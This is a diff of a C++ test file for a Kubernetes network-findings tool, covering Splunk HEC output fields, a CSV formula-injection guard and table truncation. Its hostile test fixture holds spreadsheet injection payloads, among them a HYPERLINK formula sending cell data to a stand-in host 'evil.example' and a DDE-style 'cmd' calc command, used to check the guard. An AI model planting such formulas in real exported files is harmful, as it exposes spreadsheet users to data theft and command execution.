@@ -1,6 +1,6 @@
-// Spec O1–O4: findings as JSON Lines, CSV, a terminal table, Splunk HEC events and OCSF
-// Detection Findings. Golden files: tests/data/golden_findings.*, compared byte for byte; the
-// JSON outputs are also parsed back with simdjson.
+// Spec O1–O4 and O6.5: findings as JSON Lines, CSV (formula-safe), a terminal table, Splunk
+// HEC events and OCSF Detection Findings. Golden files: tests/data/golden_findings.*, compared byte
+// for byte; the JSON outputs are also parsed back with simdjson.
 #include <catch2/catch.hpp>
 
 #include <sstream>
@@ -294,22 +294,145 @@ TEST_CASE("O2 table: control characters are shown escaped, never sent to the ter
 TEST_CASE("O3 HEC events: golden output, byte for byte") {
   std::string out;
   write_findings_hec(out, golden_findings());
-  CHECK(out == read_fixture("golden_findings.hec.jsonl"));
+  // golden_findings.hec.jsonl predates O3's top-level host, which closes each envelope.
+  std::string expected;
+  const auto findings = golden_findings();
+  const auto golden = lines_of(read_fixture("golden_findings.hec.jsonl"));
+  REQUIRE(golden.size() == findings.size());
+  for (std::size_t i = 0; i < golden.size(); ++i) {
+    if (golden[i].ends_with(",\"host\":" + json_string(findings[i].host) + "}")) {
+      expected += golden[i] + "\n";  // the fixture already has it
+      continue;
+    }
+    REQUIRE(golden[i].ends_with("}"));
+    expected += golden[i].substr(0, golden[i].size() - 1) +
+                ",\"host\":" + json_string(findings[i].host) + "}\n";
+  }
+  CHECK(out == expected);
 }
 
-TEST_CASE("O3 HEC events parse back: time, event with the O1 fields, sourcetype, source") {
+TEST_CASE("O3 HEC events parse back: time, event with the O1 fields, sourcetype, source, host") {
   const auto findings = golden_findings();
   const auto lines = lines_of(write_findings(findings, output_format::hec));
   REQUIRE(lines.size() == findings.size());
   simdjson::dom::parser parser;
   for (std::size_t i = 0; i < lines.size(); ++i) {
     const auto doc = parse_json(parser, lines[i]);
-    CHECK(keys_of(doc) == std::vector<std::string_view>{"time", "event", "sourcetype", "source"});
+    CHECK(keys_of(doc) ==
+          std::vector<std::string_view>{"time", "event", "sourcetype", "source", "host"});
     CHECK(std::int64_t(doc["time"]) == findings[i].window_end);
     check_o1_fields(doc["event"], findings[i]);
     CHECK(str(doc["sourcetype"]) == "k8snetio:finding");
     CHECK(str(doc["source"]) == findings[i].rule->name);
+    CHECK(str(doc["host"]) == findings[i].host);
   }
+}
+
+TEST_CASE("O3 HEC events carry the index the user names, escaped") {
+  const auto findings = golden_findings();
+  findings_write_options options;
+  options.hec_index = "k8s_\"net\"";
+  std::string out;
+  write_findings(out, findings, output_format::hec, options);
+  const auto lines = lines_of(out);
+  REQUIRE(lines.size() == findings.size());
+  simdjson::dom::parser parser;
+  for (std::size_t i = 0; i < lines.size(); ++i) {
+    const auto doc = parse_json(parser, lines[i]);
+    CHECK(keys_of(doc) ==
+          std::vector<std::string_view>{"time", "event", "sourcetype", "source", "host", "index"});
+    CHECK(str(doc["index"]) == "k8s_\"net\"");
+    CHECK(str(doc["host"]) == findings[i].host);
+  }
+  // No index: none in the envelope (HEC then uses the token's default index).
+  CHECK(write_findings(findings, output_format::hec).find("\"index\"") == std::string::npos);
+}
+
+// ---------------------------------------------------------------------------------------------
+// O6.5
+
+namespace {
+
+std::vector<std::vector<std::string>> csv_records(std::string_view text) {
+  csv_tokenizer tokenizer;
+  std::size_t pos = 0;
+  std::vector<std::vector<std::string>> records;
+  while (tokenizer.parse(text.substr(pos), true) == csv_tokenizer::status::record) {
+    pos += tokenizer.consumed();
+    const auto record = tokenizer.record();
+    REQUIRE(record.syntax == csv_syntax::ok);
+    records.emplace_back(record.fields.begin(), record.fields.end());
+  }
+  return records;
+}
+
+finding hostile_finding() {
+  finding f = golden_findings()[0];
+  f.cluster = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+  f.host = "+cmd|' /C calc'!A0";
+  f.pod = "-2+3";
+  f.service = "@SUM(1+1)";
+  f.anomalies = {"\t=1+1", "\r=2"};
+  f.window_start = -3600;  // a number: never touched
+  return f;
+}
+
+}  // namespace
+
+TEST_CASE("O6.5 CSV cells that start like a formula get a leading quote and are quoted") {
+  const std::vector<finding> findings{hostile_finding()};
+  const std::string out = write_findings(findings, output_format::csv);
+  const auto records = csv_records(out);
+  REQUIRE(records.size() == 2);
+  const auto& row = records[1];
+  const finding& f = findings[0];
+  CHECK(row[0] == "'" + f.cluster);
+  CHECK(row[1] == "'" + f.host);
+  CHECK(row[2] == "'-2+3");
+  CHECK(row[3] == "'@SUM(1+1)");
+  CHECK(row[5] == "'\t=1+1\n\r=2");
+  CHECK(row[6] == "-3600");            // numbers stay numbers
+  CHECK(row[11] == "'" + f.host);      // risk_object
+  CHECK(row[14] == f.risk_message());  // starts with the rule's text, not the host
+  // Each guarded cell is quoted in the file, so a spreadsheet reads it as text.
+  CHECK(out.find(",\"'-2+3\",") != std::string::npos);
+  CHECK(out.find(",\"'@SUM(1+1)\",") != std::string::npos);
+  // Safe cells are as before.
+  CHECK(write_findings(golden_findings(), output_format::csv) ==
+        read_fixture("golden_findings.csv"));
+}
+
+TEST_CASE("O6.5 --csv-raw: the guard off writes cells as they are") {
+  const std::vector<finding> findings{hostile_finding()};
+  findings_write_options raw;
+  raw.csv_formula_guard = false;
+  std::string out;
+  write_findings(out, findings, output_format::csv, raw);
+  const auto row = csv_records(out).at(1);
+  CHECK(row[0] == findings[0].cluster);
+  CHECK(row[2] == "-2+3");
+  CHECK(out.find(",-2+3,") != std::string::npos);
+  CHECK(row[3] == "@SUM(1+1)");
+  // The guard applies to the CSV only: JSON keeps the value.
+  CHECK(write_findings(findings, output_format::jsonl).find("\"k8s.pod.name\":\"-2+3\"") !=
+        std::string::npos);
+}
+
+TEST_CASE("O2 table: a long name is cut, so it cannot widen every row") {
+  auto findings = golden_findings();
+  findings[0].pod = std::string(500'000, 'p');
+  findings[1].service = std::string(300, 's');
+  const std::string out = write_findings(findings, output_format::table);
+  CHECK(out.size() < 10'000);
+  for (const auto& line : lines_of(out)) {
+    INFO(line.substr(0, 200));
+    CHECK(io::detail::display_width(line) <= 4 * 66 + 2);
+  }
+  CHECK(out.find(std::string(63, 'p') + "\xE2\x80\xA6") != std::string::npos);
+  CHECK(out.find("(" + std::string(63, 's') + "\xE2\x80\xA6)") != std::string::npos);
+  // Short names keep their alignment.
+  CHECK(write_findings(golden_findings(), output_format::table) ==
+        read_fixture("golden_findings.txt"));
 }
 
 // ---------------------------------------------------------------------------------------------
